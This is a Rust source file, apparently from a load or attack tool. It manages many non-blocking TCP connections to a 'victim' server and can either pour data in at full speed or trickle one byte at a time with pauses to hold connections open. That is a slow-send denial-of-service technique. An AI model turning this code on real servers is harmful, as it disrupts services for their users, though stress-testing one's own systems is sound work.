//! Connections that are written to without being waited for.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::thread;
use std::time::{Duration, Instant};

/// Octets that are written to one connection before the next has its turn.
const TURN: usize = 64 << 10;

/// One connection, and what is still to be written to it.
#[derive(Debug)]
struct Stream {
    stream: TcpStream,
    octets: Vec<u8>,
    written: usize,
}

/// Connections of an attack.
#[derive(Debug, Default)]
pub(crate) struct Flood(Vec<Stream>);

impl Flood {
    /// Adds a connection, and what is to be written to it.
    pub(crate) fn add(&mut self, stream: TcpStream, octets: Vec<u8>) -> io::Result<()> {
        stream.set_nonblocking(true)?;
        self.0.push(Stream {
            stream,
            octets,
            written: 0,
        });
        Ok(())
    }

    pub(crate) fn len(&self) -> usize {
        self.0.len()
    }

    /// Writes to all connections in turn until nothing is left, until nothing has been taken for `stalled`, or until
    /// `deadline` has passed; at most `turn` octets to each connection at a time, with a pause between two rounds.
    fn write(&mut self, turn: usize, pause: Duration, stalled: Duration, deadline: Duration) {
        let started = Instant::now();
        let mut last = Instant::now();
        while started.elapsed() < deadline && last.elapsed() < stalled {
            let mut left = false;
            for each in &mut self.0 {
                let end = (each.written + turn).min(each.octets.len());
                let Some(piece @ [_, ..]) = each.octets.get(each.written..end) else {
                    continue;
                };
                match each.stream.write(piece) {
                    Ok(written) => {
                        each.written += written;
                        left |= each.written < each.octets.len();
                        last = Instant::now();
                    }
                    Err(why) if why.kind() == io::ErrorKind::WouldBlock => left = true,
                    // The victim has closed the connection.
                    Err(_) => each.octets.clear(),
                }
            }
            if !left {
                return;
            }
            thread::sleep(pause);
        }
    }

    /// Writes everything that the victim takes.
    pub(crate) fn pour(&mut self) {
        const STALLED: Duration = Duration::from_secs(1);
        const DEADLINE: Duration = Duration::from_secs(60);
        self.write(TURN, Duration::ZERO, STALLED, DEADLINE);
    }

    /// Writes an octet to each connection in each round, until `time` has passed.
    pub(crate) fn trickle(&mut self, pause: Duration, time: Duration) {
        self.write(1, pause, time, time);
    }

    /// Reads what has come and drops it; gives the number of connections that the victim has not closed.
    pub(crate) fn open(&mut self) -> usize {
        let mut piece = [0; 4096];
        self.0.retain_mut(|each| {
            loop {
                match each.stream.read(&mut piece) {
                    Ok(0) => return false,
                    Ok(_) => {}
                    Err(why) => return why.kind() == io::ErrorKind::WouldBlock,
                }
            }
        });
        self.0.len()
    }
}
